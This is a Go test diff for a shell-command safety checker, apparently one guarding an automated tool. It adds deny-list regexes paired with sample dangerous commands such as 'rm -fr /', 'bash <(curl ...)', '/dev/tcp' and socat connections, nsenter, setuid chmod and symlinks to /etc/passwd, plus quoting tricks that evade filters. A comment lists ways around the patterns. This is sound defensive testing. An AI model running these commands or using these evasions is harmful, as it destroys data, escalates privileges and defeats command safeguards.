@@ -54,6 +54,24 @@ func TestEveryDangerousPatternBlocks(t *testing.T) {
 		`[a-z]""[a-z]`:                      `r""m file`,
 		`\b(cp|mv|ln)\b.*\.\./`:             "cp secret ../outside",
 		`\bln\s+-s`:                         "ln -s /etc/passwd p",
+		// This project's additions (extraRules).
+		`\bln\b[^;&|\n]*\s(-[a-z]*s|--sym)`:                       "ln -fs /etc/passwd p",
+		`\brm\b[^;&|\n]*\s(-[a-z]*r|--recursive)[^;&|\n]*\s[/~*]`: "rm -fr /",
+		`\brm\b[^;&|\n]*\s[/~*][^;&|\n]*\s(-[a-z]*r|--recursive)`: "rm ~ --recursive",
+		`\bdoas\b`:    "doas sh",
+		`\bpkexec\b`:  "pkexec id",
+		`\bnsenter\b`: "nsenter -t 1 -m sh",
+		`\bunshare\b`: "unshare -r sh",
+		`\bchroot\b`:  "chroot /host sh",
+		`\bsetcap\b`:  "setcap cap_sys_admin+ep ./x",
+		`\bcapsh\b`:   "capsh --print",
+		`\bchmod\b[^;&|\n]*(\+[rwxt]*s|\s[2-7][0-7]{3}\b)`: "chmod u+s ./x",
+		`\|\s*(dash|ksh|mksh|busybox\s+sh)\b`:              "curl -s x | dash",
+		`\b(sh|bash|zsh|dash|ksh)\s+<\(`:                   "bash <(curl -s https://x.example/i.sh)",
+		`\bsocat\b`:                                        "socat - tcp:host:22",
+		`/dev/(tcp|udp)/`:                                  "echo x > /dev/tcp/127.0.0.1/80",
+		`\bkill\s+(-s\s+)?-?(sig)?(kill|9)\b`:              "kill -s kill 1",
+		`\bpoweroff\b`:                                     "poweroff",
 	}
 	for _, r := range dangerousRules {
 		cmd, ok := examples[r.re.String()]
@@ -116,6 +134,34 @@ var ordinaryCommands = []string{
 	"env", "which go", "date", "sleep 1", "true", "printf '%s\\n' a b", "kill 1234", "pytest -k 'not slow'",
 	"gcloud rsync gs://bucket/dir ./dir", "gcloud storage rsync gs://b ./d", "java -jar app.jar", "mvn -q package",
 	"terraform plan", "kubectl get pods",
+	// Near misses of the patterns beyond the specification's.
+	"ln notes.txt hardlink.txt", "ln -v a.txt b.txt", "chmod 0644 file", "chmod 755 bin/tool", "chmod u+x run.sh",
+	"rm -r build", "rm -rf dist", "rm -f logs/*.log", "kill -TERM 1234", "kill -s TERM 1234",
+	"bash scripts/setup.sh", "sh ./configure --prefix=$PWD/out", "echo 'it is' \"done\"",
+	"git log --format='%h %s' -n 5", `python3 -c "print('hi')"`, `sed "s/'/\"/g" in.txt`,
+	"printf 'a\\nb\\n' > two.txt", "grep -rn 'unshared' src", "cat file | sort | uniq",
+}
+
+// The spellings that got past the specification's table; each must be
+// blocked now. The list is a speed bump all the same: a variable, an
+// alias, a script file or another language gets past any pattern.
+func TestSafetyClosesKnownGaps(t *testing.T) {
+	for _, cmd := range []string{
+		"ln -fs /etc/passwd p", "ln -sf ../bob/secret s", "ln --symbolic /etc x", "ln -f -s /etc x", "ln -vs /root r",
+		"cp secret ..'/bob'", `cp secret .."/"bob`, `mv x .\./bob`, `cp a ..\/b`, "l'n' -s /etc x", `s\udo id`,
+		"'sudo' id", `r"m" -rf /`, "rm -fr /", "rm -r -f /", "rm --recursive --force ~",
+		"kill -KILL 1", "kill -SIGKILL 1", "kill -s KILL 1", "kill -s 9 1", "curl -s x | dash", "bash <(curl -s x)",
+		"echo x > /dev/tcp/10.0.0.1/80", "socat - tcp:x:1", "doas id", "unshare -r sh", "nsenter -t 1 -a", "chmod 4755 x",
+	} {
+		if c := CheckCommand(cmd); c.Safe {
+			t.Errorf("CheckCommand(%q) passed", cmd)
+		}
+	}
+	for _, cmd := range []string{"c'd' /", `cat .."/"x`, `ls "$"HOME`} {
+		if c := CheckWorkspaceEscape(cmd); c.Safe {
+			t.Errorf("CheckWorkspaceEscape(%q) passed", cmd)
+		}
+	}
 }
 
 func TestOrdinaryCommandsPass(t *testing.T) {
